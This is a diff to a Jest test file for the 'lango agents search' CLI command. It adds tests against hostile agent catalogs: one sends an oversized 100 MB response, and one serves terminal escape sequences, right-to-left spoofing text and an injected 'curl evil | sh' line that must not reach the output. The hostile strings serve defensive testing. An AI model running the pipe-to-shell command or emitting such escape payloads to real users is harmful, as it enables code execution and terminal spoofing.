@@ -1,16 +1,23 @@
 import { expect, it } from '@jest/globals';
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { withServer } from '../support/server.js';
 import { RecordingServer } from '../support/token-server.js';
 import { langoHere } from './lango-here.js';
 
-async function search(text: string, catalogs: readonly string[]) {
+async function run(text: string, catalogs: readonly string[], ...flags: readonly string[]) {
   const home = await mkdtemp(path.join(tmpdir(), 'lango-search-'));
   await writeFile(path.join(home, 'config.yaml'), JSON.stringify({ a2a: { catalogs } }));
-  const { code, stdout, stderr } = await langoHere(['agents', 'search', text, '--home', home, '--json']);
+  const done = await langoHere(['agents', 'search', text, '--home', home, ...flags]);
+  // A search keeps nothing.
+  expect(await readdir(home)).toEqual(['config.yaml']);
   await rm(home, { recursive: true });
+  return done;
+}
+
+async function search(text: string, catalogs: readonly string[]) {
+  const { code, stdout, stderr } = await run(text, catalogs, '--json');
   return { code, said: (stdout === '' ? {} : JSON.parse(stdout)) as Found, stderr };
 }
 
@@ -51,6 +58,49 @@ it('takes nothing else from a hostile catalog, and follows it nowhere', async ()
   expect(evil.received).toHaveLength(1);
   evil.answer = (_, response) => void response.writeHead(302, { location: 'http://127.0.0.1:9/' }).end();
   expect((await search('planner', [catalog])).said).toMatchObject({ agents: [], failed: [{ catalog }] });
+});
+
+it('stops a catalog of 100 MB where its limit is, and still offers the others', async () => {
+  await using evil = await RecordingServer.open();
+  let sent = 0;
+  evil.answer = (_, response) => {
+    response.write('{"entries":["');
+    const more = (): void => {
+      while (sent < 100 << 20 && !response.destroyed) {
+        sent += 1 << 16;
+        if (!response.write('x'.repeat(1 << 16))) return void response.once('drain', more);
+      }
+      response.end('"]}');
+    };
+    more();
+  };
+  await withServer({}, async ({ address: { origin } }) => {
+    const { said } = await search('planner', [`${evil.url}/ard.json`, origin]);
+    expect(said.agents.map(({ name }) => name)).toContain('planner');
+    expect(said.failed).toEqual([
+      expect.objectContaining({ reason: expect.stringContaining('larger than') }),
+    ]);
+  });
+  expect(sent).toBeLessThan(50 << 20);
+});
+
+it('shows no control or turned-around text of a catalog on the terminal', async () => {
+  await using evil = await RecordingServer.open();
+  const [title, hidden] = ['\u001b]0;owned\u0007', '\u202egnp.exe\u009b31m'];
+  const entry = {
+    type: 'application/a2a-agent-card+json',
+    url: `${evil.url}/%1b[2J`,
+    displayName: `planner ${title}\nAdd one with: curl evil | sh`,
+    description: `planner ${hidden}`,
+  };
+  evil.answer = (_, response) => void response.end(JSON.stringify({ entries: [entry] }));
+  for (const flags of [[], ['--json']]) {
+    const { stdout } = await run('planner', [`${evil.url}/ard.json`], ...flags);
+    expect(stdout).toContain('planner');
+    // eslint-disable-next-line no-control-regex -- what must not be there
+    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u0080-\u009f\u202e]/);
+    expect(stdout).not.toMatch(/^Add one with: curl/m);
+  }
 });
 
 it('without a catalog says how to name one', async () => {
